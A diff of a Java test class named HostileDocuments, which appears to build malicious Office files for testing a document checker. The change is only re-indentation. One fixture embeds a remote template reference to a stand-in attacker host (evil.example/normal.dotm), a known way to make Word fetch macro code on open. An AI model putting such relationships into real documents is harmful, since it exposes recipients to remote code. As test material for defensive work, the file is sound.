@@ -113,10 +113,10 @@ public final class HostileDocuments {
                 GoodFiles.docx(),
                 "word/_rels/settings.xml.rels",
                 "<Relationships"
-                    + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
-                    + " Id=\"rId1\" TargetMode=\"External\""
-                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
-                    + " Target=\"https://evil.example/normal.dotm\"/></Relationships>");
+                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
+                        + " Id=\"rId1\" TargetMode=\"External\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+                        + " Target=\"https://evil.example/normal.dotm\"/></Relationships>");
     }
 
     public static byte[] workbookFromTheNet() {
@@ -124,10 +124,10 @@ public final class HostileDocuments {
                 GoodFiles.xlsx(),
                 "xl/externalLinks/_rels/externalLink1.xml.rels",
                 "<Relationships"
-                    + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
-                    + " Id=\"rId1\" TargetMode=\"External\""
-                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\""
-                    + " Target=\"https://kommune.example/Budget.xlsx\"/></Relationships>");
+                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
+                        + " Id=\"rId1\" TargetMode=\"External\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\""
+                        + " Target=\"https://kommune.example/Budget.xlsx\"/></Relationships>");
     }
 
     public static byte[] pathInside() {
